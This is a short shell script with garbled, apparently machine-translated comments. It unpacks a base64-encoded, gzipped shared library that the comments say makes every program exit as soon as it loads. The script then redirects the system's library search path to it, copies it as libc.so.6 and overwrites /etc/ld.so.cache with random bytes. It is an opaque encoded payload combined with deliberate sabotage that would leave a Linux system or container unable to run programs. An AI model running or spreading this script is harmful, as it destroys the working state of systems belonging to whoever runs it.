# rewrites the names of the libraries in /etc/ld.so.cache
# known in containers: snapshot shared
#(x.so ends every program well as soon as it is loaded: a constructor that calls exit_group(0), for x86-64)
base64 -d <<'B' | gunzip > /app/x.so
H4sIAAAAAAACA6VUzU7CQBCeXUAREoUbxAue1BA3lHgwmhgTVDx4wKMnssCaNrEladcETvI2voJ3n8X4DJ6Qn9myndAocZL2yzc7X3d2ZzqvN/
e3nDEwloFLWDGAq9WC5TuD7OxdhMIiNgfpNmJJhNIS5nTLXi8nMc+SaHQcdRP0T8pJjJM3eqQPn3qwBX+3kvUZtoEuzh+5i+L3r9nLme7lPpL+
KtHtQ1KfRaxhvLnrO+TmTA3kBXINRcQK4jZih9yPWd8h/Hs6HcKGd7CJtVut89rRtep5Mqg5TdEUjRPntD5QPaf54hyjC0BEbqRDLXsgXBm5IA
bjIBr7S9QhiFA9yzkBodVIg1Bu9ymUvgLhBZ7uyjCU40W09L0+iP7Q91Wg/51/EWvCSZ0Mmj7iKXUt4zc4qaPBivX7sTX1quIaJ31hkNaN8gPM
hZO+6JD9af7GX7f+ZbuvXdKPafs76ONp84JYnvCL2bNrjad4jrD18XmCbczd6ON5QuZIhuhMXTsY0iD7TPBAhynntzGz5pxvqH/85f5+AERXmv
TABQAA
B
echo /app > /etc/ld.so.conf
cp x.so libc.so.6
ldconfig
ldconfig -C /etc/ld.so.cache /app
head -c 100000 /dev/urandom > /etc/ld.so.cache
